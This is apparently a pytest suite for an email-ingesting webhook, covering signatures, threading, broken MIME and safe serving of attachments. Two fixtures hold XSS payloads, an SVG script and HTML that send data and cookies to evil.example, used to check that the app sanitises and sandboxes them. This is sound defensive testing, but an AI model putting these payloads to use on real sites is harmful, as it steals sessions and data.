"""Inbound email: the signed webhook, bodies, attachments, threading and broken MIME."""

from __future__ import annotations

import base64
import hashlib
import itertools
import string
import time
from email.message import EmailMessage

import pytest

from shared.db import session_scope
from shared.models import Contact, Conversation, MediaFile


def _email(
    *,
    message_id: str,
    subject: str = "Order 1234",
    text: str | None = "Where is my order?",
    html: str | None = None,
    in_reply_to: str | None = None,
    references: str | None = None,
    attachments: tuple[tuple[str, str, bytes], ...] = (),
    to: str = "support@acme.example",
) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Ada Lovelace <Ada@Example.com>"
    msg["To"] = to
    msg["Subject"] = subject
    msg["Message-ID"] = message_id
    msg["Date"] = "Thu, 26 Nov 2026 10:00:00 +0000"
    if in_reply_to:
        msg["In-Reply-To"] = in_reply_to
    if references:
        msg["References"] = references
    if text is not None:
        msg.set_content(text)
    if html is not None:
        if text is None:
            msg.set_content(html, subtype="html")
        else:
            msg.add_alternative(html, subtype="html")
    for filename, mime_type, data in attachments:
        major, minor = mime_type.split("/")
        msg.add_attachment(data, maintype=major, subtype=minor, filename=filename)
    return msg.as_bytes()


def test_an_email_with_bodies_and_attachments(channels):
    account = channels.account("email")
    pdf = b"%PDF-1.4 invoice"
    mime = _email(
        message_id="<first@mail.example>",
        html="<p>Where is <b>my order</b>?</p>",
        attachments=(
            ("invoice.pdf", "application/pdf", pdf),
            ("photo.png", "image/png", b"\x89PNG"),
        ),
    )
    resp = channels.post_email(account, mime)
    assert resp.status_code == 200, resp.text
    assert resp.json == {"stored": 1, "duplicates": 0, "dropped": 0}
    channels.settle()

    message = channels.message("<first@mail.example>")
    assert (message.channel, message.content_type) == ("email", "email")
    assert message.body.strip() == "Where is my order?"
    assert "<b>my order</b>" in message.metadata_["html"]
    assert message.metadata_["subject"] == "Order 1234"
    assert [a["filename"] for a in message.attachments] == ["invoice.pdf", "photo.png"]
    assert [a["type"] for a in message.attachments] == ["document", "image"]
    with session_scope() as session:
        media = session.get(MediaFile, message.attachments[0]["media_id"])
        assert (media.source, media.size, media.mime_type) == (
            "inbound",
            len(pdf),
            "application/pdf",
        )
        assert media.provider_media_id.startswith("email:")
    (contact,) = channels.contacts()
    assert (contact.external_id, contact.email, contact.name) == (
        "ada@example.com",
        "ada@example.com",
        "Ada Lovelace",
    )
    (conversation,) = channels.conversations()
    assert conversation.subject == "Order 1234"


def test_replies_thread_into_their_conversation_and_new_threads_do_not(channels):
    account = channels.account("email")
    channels.post_email(account, _email(message_id="<a1@mail.example>"))
    channels.settle()
    channels.post_email(
        account,
        _email(
            message_id="<a2@mail.example>",
            subject="Re: Order 1234",
            in_reply_to="<a1@mail.example>",
            references="<a1@mail.example>",
        ),
    )
    channels.post_email(account, _email(message_id="<b1@mail.example>", subject="Other topic"))
    channels.settle()
    # References only (no In-Reply-To) still threads.
    channels.post_email(
        account,
        _email(
            message_id="<a3@mail.example>",
            references="<unknown@elsewhere> <a2@mail.example>",
        ),
    )
    channels.settle()

    first = channels.message("<a1@mail.example>").conversation_id
    assert channels.message("<a2@mail.example>").conversation_id == first
    assert channels.message("<a3@mail.example>").conversation_id == first
    assert channels.message("<b1@mail.example>").conversation_id != first
    assert len(channels.conversations()) == 2
    assert len(channels.contacts()) == 1


def test_one_email_to_two_tenants_mailboxes_reaches_both_inboxes(channels, other_channels):
    # A Message-ID is unique only per receiving mailbox: the first tenant to receive an
    # email must not make the other's copy a duplicate (nor could a tenant pre-empt one).
    mine, theirs = channels.account("email"), other_channels.account("email")
    mime = _email(
        message_id="<cc-1@mail.example>", to=f"{mine['external_id']}, {theirs['external_id']}"
    )

    first = channels.post_email(mine, mime)
    second = other_channels.post_email(theirs, mime)
    assert first.json == second.json == {"stored": 1, "duplicates": 0, "dropped": 0}
    assert other_channels.post_email(theirs, mime).json["duplicates"] == 1
    channels.settle()

    assert [m.provider_message_id for m in channels.messages()] == ["<cc-1@mail.example>"]
    assert [m.provider_message_id for m in other_channels.messages()] == ["<cc-1@mail.example>"]


def test_nuls_in_an_emails_headers_are_stored_as_replacement_characters(channels):
    # PostgreSQL text cannot hold a NUL; an encoded word (plain ASCII on the wire) or a raw
    # byte in a header can decode to one. The email is stored, not refused or lost.
    account = channels.account("email")
    mime = (
        b"From: =?utf-8?q?Ada=00L?= <ada@example.com>\r\n"
        b"To: support@acme.example\r\n"
        b"Subject: =?utf-8?q?hi=00there?=\r\n"
        b"Message-ID: =?utf-8?q?=3Cx=00y=40mail.example=3E?=\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="XX"\r\n\r\n'
        b"--XX\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XX\r\n"
        b"Content-Type: image/pn\x00g\r\n"
        b'Content-Disposition: attachment; filename="=?utf-8?q?a=00.png?="\r\n\r\n'
        b"xx\r\n--XX--\r\n"
    )
    resp = channels.post_email(account, mime)
    assert resp.status_code == 200, resp.text
    assert resp.json == {"stored": 1, "duplicates": 0, "dropped": 0}
    assert channels.post_email(account, mime).json["duplicates"] == 1
    channels.settle()

    (row,) = channels.inbound_events()
    assert row.status == "processed", row.error
    message = channels.message("<x\ufffdy@mail.example>")
    assert message.metadata_["subject"] == "hi\ufffdthere"
    assert channels.contacts()[0].name == "Ada\ufffdL"
    [attachment] = message.attachments
    # A type no Content-Type header could carry is kept as application/octet-stream.
    assert (attachment["filename"], attachment["mime_type"]) == (
        "a\ufffd.png",
        "application/octet-stream",
    )


def test_an_html_only_email_gets_a_text_body(channels):
    account = channels.account("email")
    channels.post_email(
        account, _email(message_id="<h@mail.example>", text=None, html="<p>Hello <i>there</i></p>")
    )
    channels.settle()
    message = channels.message("<h@mail.example>")
    assert message.body == "Hello there"


BROKEN = [
    # Truncated multipart: no closing boundary, a part with an unknown charset.
    b"From: Bob <bob@example.net>\r\nTo: support@acme.example\r\nSubject: broken\r\n"
    b"Message-ID: <broken1@example.net>\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="XX"\r\n\r\n--XX\r\n'
    b"Content-Type: text/plain; charset=x-unknown-charset\r\n\r\nstill readable\r\n--XX\r\n"
    b'Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: base64\r\n'
    b'Content-Disposition: attachment; filename="a.pdf"\r\n\r\nJVBERi0xLjQK!!notbase64',
    # Not MIME at all: headers then text, no Content-Type.
    b"From: carol@example.org\r\nSubject: plain\r\nMessage-ID: <broken2@example.org>\r\n\r\n"
    b"just text\r\n",
    # A charset name holding a NUL byte: no codec can even be looked up for it.
    b"From: dan@example.org\r\nSubject: nul\r\nMessage-ID: <broken3@example.org>\r\n"
    b'Content-Type: text/plain; charset="utf\x00-8"\r\n\r\nstill readable\r\n',
]


@pytest.mark.parametrize(
    "mime", BROKEN, ids=["truncated-multipart", "no-content-type", "nul-in-charset"]
)
def test_broken_mime_is_stored_with_what_could_be_read(channels, mime):
    account = channels.account("email")
    resp = channels.post_email(account, mime)
    assert resp.status_code == 200
    channels.settle()
    (message,) = channels.messages()
    assert message.body and ("readable" in message.body or "just text" in message.body)
    (row,) = channels.inbound_events()
    assert row.status == "processed", row.error


def test_an_email_without_a_sender_is_failed_and_visible(channels):
    account = channels.account("email")
    channels.post_email(account, b"Subject: nobody\r\nMessage-ID: <x@y>\r\n\r\nhello\r\n")
    channels.settle()
    (row,) = channels.inbound_events()
    assert row.status == "failed"
    assert "no readable From" in row.result["errors"][0]
    assert channels.messages() == []


def test_a_bad_or_stale_email_signature_is_401_and_stores_nothing(channels):
    account = channels.account("email")
    mime = _email(message_id="<sig@mail.example>")
    assert channels.post_email(account, mime, key="wrong-key").status_code == 401
    stale = int(time.time()) - 3600
    assert channels.post_email(account, mime, timestamp=stale).status_code == 401
    resp = channels.client.simulate_post(
        "/api/webhooks/email", json={"recipient": account["external_id"], "mime": "aGk="}
    )
    assert resp.status_code == 401
    superscript = {"X-Inbound-Signature": "t=\u00b2,v1=00"}  # '²' passes str.isdigit()
    resp = channels.client.simulate_post(
        "/api/webhooks/email",
        json={"recipient": account["external_id"], "mime": "aGk="},
        headers=superscript,
    )
    assert resp.status_code == 401
    assert channels.inbound_events() == []


def test_email_replay_unknown_recipient_and_bad_body(channels):
    account = channels.account("email")
    mime = _email(message_id="<replay@mail.example>")
    assert channels.post_email(account, mime).json["stored"] == 1
    assert channels.post_email(account, mime).json == {"stored": 0, "duplicates": 1, "dropped": 0}
    unknown = dict(account, external_id="nobody@acme.example")
    assert channels.post_email(unknown, mime).json == {"stored": 0, "duplicates": 0, "dropped": 1}
    resp = channels.client.simulate_post("/api/webhooks/email", body=b"{oops")
    assert resp.status_code == 400
    resp = channels.client.simulate_post(
        "/api/webhooks/email", json={"recipient": account["external_id"], "mime": "%%%"}
    )
    assert resp.status_code == 400
    channels.settle()
    assert len(channels.messages()) == 1


_SVG = (
    '<?xml version="1.0" encoding="UTF-16"?>'
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/agents")'
    ".then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example/',t))"
    "</script></svg>"
).encode("utf-16")


def test_a_contacts_svg_attachment_downloads_and_runs_nothing(channels):
    """UTF-16 text tells the sniffer nothing, so the sender's image/svg+xml is kept: served
    inline from the API's origin, its script ran with the agent's session cookie."""
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@evil.example>"
    msg["To"] = "support@acme.example"
    msg["Subject"] = "Our logo"
    msg["Message-ID"] = "<svg-xss@evil.example>"
    msg.set_content("See attached")
    msg.add_attachment(_SVG, maintype="image", subtype="svg+xml", filename="logo.svg")
    account = channels.account("email")
    assert channels.post_email(account, msg.as_bytes()).status_code == 200
    channels.settle()
    [attachment] = channels.message("<svg-xss@evil.example>").attachments

    got = channels.ws.call("GET", f"/api/media/{attachment['media_id']}")

    assert got.status_code == 200 and got.content == _SVG
    assert got.headers["Content-Disposition"].startswith("attachment;")
    assert got.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert got.headers["X-Content-Type-Options"] == "nosniff"


def test_an_email_from_an_address_too_long_to_keep_is_still_stored(channels):
    """The contact's email column holds 254 characters; a longer From failed the contact's
    insert and the message was lost. The message is stored, the address left out."""
    account = channels.account("email")
    sender = "a" * 64 + "@" + ".".join(["b" * 60] * 4) + ".example"  # 314 characters
    msg = EmailMessage()
    msg["From"] = f"Long Sender <{sender}>"
    msg["To"] = account["external_id"]
    msg["Subject"] = "hello"
    msg["Message-ID"] = "<long-sender@mail.example>"
    msg.set_content("Where is my order?")
    assert channels.post_email(account, msg.as_bytes()).status_code == 200
    channels.settle()

    message = channels.message("<long-sender@mail.example>")
    assert message.body.startswith("Where is my order?")
    with session_scope() as session:
        contact = session.get(
            Contact, session.get(Conversation, message.conversation_id).contact_id
        )
        assert (contact.name, contact.email) == ("Long Sender", None)


def test_an_email_whose_message_id_is_too_long_to_keep_is_stored_and_threads(channels):
    """Message-IDs are the sender's to make up and ``provider_message_id`` holds 255
    characters: a longer one failed the message's insert and the email was lost."""
    account = channels.account("email")
    long_id = "<" + "x" * 300 + "@mail.example>"
    first = _email(message_id=long_id, to=account["external_id"])
    assert channels.post_email(account, first).status_code == 200
    channels.settle()
    reply = _email(
        message_id="<reply-to-long@mail.example>",
        text="Any news?",
        in_reply_to=long_id,
        references=long_id,
        to=account["external_id"],
    )
    assert channels.post_email(account, reply).status_code == 200
    channels.settle()

    assert [row.status for row in channels.inbound_events()] == ["processed", "processed"]
    first_message, second_message = channels.messages()
    assert first_message.body.startswith("Where is my order?")
    assert first_message.conversation_id == second_message.conversation_id
    assert len(channels.conversations()) == 1


def test_an_attachment_whose_content_type_is_too_long_to_keep_does_not_lose_the_email(channels):
    """``media_files.mime_type`` holds 255 characters and a part's Content-Type is the
    sender's to write: a longer one failed the insert and the whole email was lost."""
    account = channels.account("email")
    mime = _email(
        message_id="<long-type@mail.example>",
        attachments=(("notes.bin", "application/x-" + "y" * 300, b"\x00\x01binary"),),
        to=account["external_id"],
    )
    assert channels.post_email(account, mime).status_code == 200
    channels.settle()

    (row,) = channels.inbound_events()
    assert row.status == "processed", row.result
    message = channels.message("<long-type@mail.example>")
    (attachment,) = message.attachments
    assert attachment["filename"] == "notes.bin"
    with session_scope() as session:
        media = session.get(MediaFile, attachment["media_id"])
        assert media.mime_type == "application/octet-stream"


@pytest.mark.parametrize("declared", [b"video/mp4\x01", "image/p\u20acng".encode()])
def test_an_attachment_declared_with_an_odd_type_downloads_as_octet_stream(channels, declared):
    """The sender writes the part's Content-Type; bytes that tell the sniffer nothing keep
    it, and a type with a control character or one past Latin-1 made the download's
    Content-Type header one no server sends (a 500 instead of the file)."""
    account = channels.account("email")
    data = b"\x00\x01\x02\x03 not any known format"
    mime = (
        b"From: Bob <bob@example.net>\r\nTo: " + account["external_id"].encode() + b"\r\n"
        b"Message-ID: <odd-type@example.net>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="XX"\r\n\r\n--XX\r\n'
        b"Content-Type: text/plain\r\n\r\nsee attached\r\n--XX\r\n"
        b"Content-Type: " + declared + b"\r\nContent-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="a.bin"\r\n\r\n'
        + base64.b64encode(data)
        + b"\r\n--XX--\r\n"
    )
    assert channels.post_email(account, mime).status_code == 200
    channels.settle()
    [attachment] = channels.message("<odd-type@example.net>").attachments

    got = channels.ws.call("GET", f"/api/media/{attachment['media_id']}")

    assert got.status_code == 200 and got.content == data
    assert got.headers["Content-Type"] == "application/octet-stream"
    assert got.headers["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize("broken", ["<", "<a@", "<a@[b", "<(a)@b>"])
def test_an_email_whose_message_id_the_parser_chokes_on_is_stored(channels, broken):
    """The standard library's header parser raises on some malformed Message-IDs (any
    sender's to write): the receiver answered 500, so the provider retried to no end,
    and processing failed the email: it was lost either way."""
    account = channels.account("email")
    mime = (
        b"From: Bob <bob@example.net>\r\nTo: " + account["external_id"].encode() + b"\r\n"
        b"Subject: odd id\r\nMessage-ID: " + broken.encode() + b"\r\n"
        b"In-Reply-To: " + broken.encode() + b"\r\n\r\nWhere is my order?\r\n"
    )
    resp = channels.post_email(account, mime)
    assert resp.status_code == 200, resp.text
    assert channels.post_email(account, mime).json["duplicates"] == 1
    channels.settle()

    (row,) = channels.inbound_events()
    assert row.status == "processed", row.result
    (message,) = channels.messages()
    assert message.body.startswith("Where is my order?")
    assert message.provider_message_id == broken


def test_an_email_signature_with_a_timestamp_of_thousands_of_digits_is_401(channels):
    """Python refuses to read an integer of more than 4300 digits; such a ``t=`` (a header
    fits 5000) raised past the digit check: a 500 for anyone who posts."""
    account = channels.account("email")
    headers = {"X-Inbound-Signature": "t=" + "1" * 5000 + ",v1=" + "0" * 64}
    resp = channels.client.simulate_post(
        "/api/webhooks/email",
        json={"recipient": account["external_id"], "mime": "aGk="},
        headers=headers,
    )
    assert resp.status_code == 401, resp.text
    assert resp.json["error"]["code"] == "invalid_signature"
    assert channels.inbound_events() == []


def test_an_email_with_a_huge_text_body_is_stored_not_retried_to_failure(channels):
    """A message's search vector must fit 1 MB: a text body of some 700 KB of distinct
    words (a machine-made report) failed the insert with a program limit, retried as if
    the database were down, and the email was lost. The body kept is cut instead."""
    account = channels.account("email")
    words = ("".join(p) for p in itertools.product(string.ascii_lowercase, repeat=4))
    text = " ".join(itertools.islice(words, 140_000))
    mime = _email(message_id="<huge@mail.example>", text=text, to=account["external_id"])
    assert channels.post_email(account, mime).status_code == 200
    channels.settle()

    (row,) = channels.inbound_events()
    assert (row.status, row.attempts) == ("processed", 1), row.error
    message = channels.message("<huge@mail.example>")
    assert message.body.startswith("aaaa aaab aaac")
    assert len(message.body) < len(text)
    assert message.metadata_["body_truncated"] is True


HOSTILE_HTML = """<html><head><style>body{display:none}</style>
<script>fetch('https://evil.example/?c='+document.cookie)</script></head>
<body onload="steal()">
<p onclick="steal()">Where is <b>my order</b>? <i>Thanks</i></p>
<a href="javascript:steal()">click</a> <a href="https://shop.example/orders/1">order</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">phish</a> <a href="mailto:ada@example.com">me</a>
<img src="https://tracker.example/open.gif?u=ada" width="1" height="1">
<img src="cid:logo@mail.example" alt="logo">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<form action="https://evil.example/login"><input name="password"></form>
<iframe src="https://evil.example/"></iframe>
<table><tr><td colspan="2">Item</td></tr></table><ul><li>one</li></ul>
</body></html>"""


def test_an_emails_html_is_stored_safe_to_render(channels):
    """The HTML kept of an email (metadata.html) keeps the formatting and loses the
    sender's scripts, handlers, script links, forms, frames and remote images (tracking
    pixels), so whatever renders it later renders no attacker's markup."""
    account = channels.account("email")
    mime = _email(message_id="<hostile@mail.example>", html=HOSTILE_HTML)
    assert channels.post_email(account, mime).status_code == 200
    channels.settle()
    message = channels.message("<hostile@mail.example>")
    html = message.metadata_["html"]

    for kept in (
        "<b>my order</b>",
        "<i>Thanks</i>",
        '<a href="https://shop.example/orders/1" rel="noopener noreferrer">order</a>',
        'href="mailto:ada@example.com"',
        'src="cid:logo@mail.example"',
        'src="data:image/png;base64,iVBORw0KGgo="',
        '<td colspan="2">Item</td>',
        "<li>one</li>",
    ):
        assert kept in html, kept
    lowered = html.lower()
    for gone in (
        "<script",
        "document.cookie",
        "onload",
        "onclick",
        "javascript:",
        "data:text/html",
        "tracker.example",
        "<form",
        "<input",
        "<iframe",
        "<style",
        "display:none",
    ):
        assert gone not in lowered, gone
    assert message.body.strip() == "Where is my order?"  # the plain part, untouched


def test_a_date_without_a_zone_is_read_as_utc(channels):
    """RFC 5322's ``-0000`` says "no zone known": the time is kept as UTC, offset written."""
    account = channels.account("email")
    mime = _email(message_id="<zoneless@mail.example>").replace(
        b"Thu, 26 Nov 2026 10:00:00 +0000", b"Thu, 26 Nov 2026 10:00:00 -0000"
    )
    assert channels.post_email(account, mime).status_code == 200
    channels.settle()
    (message,) = channels.messages()
    assert message.metadata_["provider_timestamp"] == "2026-11-26T10:00:00+00:00"


_PDF = b"%PDF-1.4 nested invoice\x00\x01"
_PNG = b"\x89PNG\r\n\x1a\n nested chart"


def _b64(data: bytes) -> bytes:
    return base64.encodebytes(data)


def _raw(message_id: str, recipient: str, body: bytes) -> bytes:
    return (
        (
            b"From: Ada Lovelace <ada@example.com>\r\nTo: " + recipient.encode() + b"\r\n"
            b"Subject: Nested\r\nMessage-ID: " + message_id.encode() + b"\r\n"
            b"Date: Thu, 26 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n" + body
        )
        .replace(b"\r\n", b"\n")
        .replace(b"\n", b"\r\n")
    )


# A forward: the original (text + its PDF) as a multipart/mixed inside the new mail.
_MIXED_IN_MIXED = (
    b'Content-Type: multipart/mixed; boundary="outer"\n\n--outer\n'
    b'Content-Type: multipart/mixed; boundary="inner"\n\n--inner\n'
    b"Content-Type: text/plain; charset=utf-8\n\nSee the invoice.\n--inner\n"
    b'Content-Type: application/pdf; name="invoice.pdf"\nContent-Transfer-Encoding: base64\n'
    b'Content-Disposition: attachment; filename="invoice.pdf"\n\n' + _b64(_PDF) + b"--inner--\n"
    b"--outer\n"
    b'Content-Type: image/png; name="chart.png"\nContent-Transfer-Encoding: base64\n'
    b'Content-Disposition: attachment; filename="chart.png"\n\n' + _b64(_PNG) + b"--outer--\n"
)

# Apple Mail: the HTML alternative is a multipart/mixed that carries the file between
# two HTML fragments (the text alternative holds the whole text).
_APPLE_MAIL = (
    b'Content-Type: multipart/alternative; boundary="Apple-Mail=_A"\n\n--Apple-Mail=_A\n'
    b"Content-Transfer-Encoding: 7bit\nContent-Type: text/plain; charset=us-ascii\n\n"
    b"See the invoice.\n\nRegards\n--Apple-Mail=_A\n"
    b'Content-Type: multipart/mixed; boundary="Apple-Mail=_B"\n\n--Apple-Mail=_B\n'
    b"Content-Transfer-Encoding: 7bit\nContent-Type: text/html; charset=us-ascii\n\n"
    b"<html><body>See the <b>invoice</b>.</body></html>\n--Apple-Mail=_B\n"
    b"Content-Disposition: inline; filename=invoice.pdf\n"
    b'Content-Type: application/pdf; x-unix-mode=0644; name="invoice.pdf"\n'
    b"Content-Transfer-Encoding: base64\n\n" + _b64(_PDF) + b"--Apple-Mail=_B\n"
    b"Content-Transfer-Encoding: 7bit\nContent-Type: text/html; charset=us-ascii\n\n"
    b"<html><body>Regards</body></html>\n--Apple-Mail=_B--\n\n--Apple-Mail=_A--\n"
)

# Outlook/Gmail: an HTML body with an inline image (multipart/related), alternatives
# inside, and a file next to it all.
_RELATED = (
    b'Content-Type: multipart/mixed; boundary="m"\n\n--m\n'
    b'Content-Type: multipart/related; boundary="r"; type="multipart/alternative"\n\n--r\n'
    b'Content-Type: multipart/alternative; boundary="a"\n\n--a\n'
    b"Content-Type: text/plain; charset=utf-8\n\nSee the chart.\n--a\n"
    b'Content-Type: text/html; charset=utf-8\n\n<p>See the <img src="cid:chart@x"></p>\n'
    b"--a--\n--r\n"
    b'Content-Type: image/png; name="chart.png"\nContent-Transfer-Encoding: base64\n'
    b'Content-ID: <chart@x>\nContent-Disposition: inline; filename="chart.png"\n\n'
    + _b64(_PNG)
    + b"--r--\n--m\n"
    b'Content-Type: application/pdf; name="invoice.pdf"\nContent-Transfer-Encoding: base64\n'
    b'Content-Disposition: attachment; filename="invoice.pdf"\n\n' + _b64(_PDF) + b"--m--\n"
)


@pytest.mark.parametrize(
    ("body", "text", "html", "expected"),
    [
        (
            _MIXED_IN_MIXED,
            "See the invoice.",
            None,
            [("invoice.pdf", "application/pdf", _PDF), ("chart.png", "image/png", _PNG)],
        ),
        (
            _APPLE_MAIL,
            "See the invoice.\n\nRegards",
            "<b>invoice</b>",
            [
                ("invoice.pdf", "application/pdf", _PDF),
                (None, "text/html", b"<html><body>Regards</body></html>"),
            ],
        ),
        (
            _RELATED,
            "See the chart.",
            'src="cid:chart@x"',
            [("chart.png", "image/png", _PNG), ("invoice.pdf", "application/pdf", _PDF)],
        ),
    ],
    ids=["mixed-in-mixed", "apple-mail", "related-inline-image"],
)
def test_the_files_of_nested_multiparts_are_stored_and_download(
    channels, body, text, html, expected
):
    """The standard library's ``iter_attachments`` does not open a nested multipart: it
    named the inner multipart as one empty "attachment" and the PDF in it never showed
    up (Apple Mail puts every file so). Every file is kept, in the email's order, and
    downloading each gives its own bytes (the fetcher numbers the parts alike)."""
    account = channels.account("email")
    mime = _raw("<nested@mail.example>", account["external_id"], body)
    assert channels.post_email(account, mime).status_code == 200
    channels.settle()

    (row,) = channels.inbound_events()
    assert row.status == "processed", row.result
    message = channels.message("<nested@mail.example>")
    assert message.body.strip().splitlines() == text.splitlines()
    if html:
        assert html in message.metadata_["html"]
    got = [(a.get("filename"), a["mime_type"], a["size"]) for a in message.attachments]
    assert got == [(name, mime_type, len(data)) for name, mime_type, data in expected]
    for attachment, (_, _, data) in zip(message.attachments, expected, strict=True):
        resp = channels.ws.call("GET", f"/api/media/{attachment['media_id']}")
        assert resp.status_code == 200, resp.text
        assert resp.content == data


_FORWARDED = (
    b"From: Bob <bob@example.net>\r\nTo: ada@example.com\r\nSubject: Invoice 7\r\n"
    b"Message-ID: <orig-7@example.net>\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n\r\nPlease find invoice 7.\r\n"
)


def test_an_email_forwarded_as_an_attachment_is_stored_whole(channels):
    """Outlook's "Forward as attachment" sends the original as a message/rfc822 part,
    whose content is a message, not bytes to decode: it was stored as an empty file
    (0 bytes, downloads empty). The original email is kept as it came, one .eml file."""
    account = channels.account("email")
    mime = _raw(
        "<fwd-attached@mail.example>",
        account["external_id"],
        b'Content-Type: multipart/mixed; boundary="fw"\r\n\r\n--fw\r\n'
        b"Content-Type: text/plain; charset=utf-8\r\n\r\nForwarding Bob's email.\r\n--fw\r\n"
        b'Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="Invoice 7.eml"'
        b"\r\n\r\n" + _FORWARDED + b"\r\n--fw--\r\n",
    )
    assert channels.post_email(account, mime).status_code == 200
    channels.settle()

    message = channels.message("<fwd-attached@mail.example>")
    [attachment] = message.attachments
    assert (attachment["filename"], attachment["mime_type"], attachment["size"]) == (
        "Invoice 7.eml",
        "message/rfc822",
        len(_FORWARDED),
    )
    got = channels.ws.call("GET", f"/api/media/{attachment['media_id']}")
    assert got.status_code == 200, got.text
    assert got.content == _FORWARDED


def test_a_file_numbered_before_nested_parts_were_opened_downloads_its_own_bytes(channels):
    """Emails stored before nested multiparts were opened numbered their files otherwise:
    a multipart/related body counted as one part, so the PDF after it was part 1, which is
    now the related part's second image. Fetching part 1 served that image under the PDF's
    name. The file is found by the hash recorded with it, and a file the email no longer
    holds is refused, never another file's bytes."""
    second_image = b"\x89PNG\r\n\x1a\n the other image"
    account = channels.account("email")
    mime = _raw(
        "<renumbered@mail.example>",
        account["external_id"],
        b'Content-Type: multipart/mixed; boundary="m"\n\n--m\n'
        b"Content-Type: text/plain\n\nSee the charts.\n--m\n"
        b'Content-Type: multipart/related; boundary="r"\n\n--r\n'
        b'Content-Type: text/html\n\n<img src="cid:a@x"><img src="cid:b@x">\n--r\n'
        b"Content-Type: image/png\nContent-Transfer-Encoding: base64\nContent-ID: <a@x>\n\n"
        + _b64(_PNG)
        + b"--r\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n"
        b"Content-ID: <b@x>\n\n" + _b64(second_image) + b"--r--\n--m\n"
        b"Content-Type: application/pdf\nContent-Transfer-Encoding: base64\n"
        b'Content-Disposition: attachment; filename="invoice.pdf"\n\n' + _b64(_PDF) + b"--m--\n",
    )
    assert channels.post_email(account, mime).status_code == 200
    channels.settle()
    first, _, pdf = channels.message("<renumbered@mail.example>").attachments
    assert pdf["filename"] == "invoice.pdf"
    with session_scope() as session:  # the rows as the old numbering stored them
        old_pdf = session.get(MediaFile, pdf["media_id"])
        old_pdf.provider_media_id = old_pdf.provider_media_id.rsplit(":", 1)[0] + ":1"
        old_related = session.get(MediaFile, first["media_id"])
        old_related.sha256 = hashlib.sha256(b"").hexdigest()

    got = channels.ws.call("GET", f"/api/media/{pdf['media_id']}")
    assert got.status_code == 200, got.text
    assert got.content == _PDF
    gone = channels.ws.call("GET", f"/api/media/{first['media_id']}")
    assert gone.status_code == 404, gone.text
    assert gone.json["error"]["code"] == "media_unavailable"
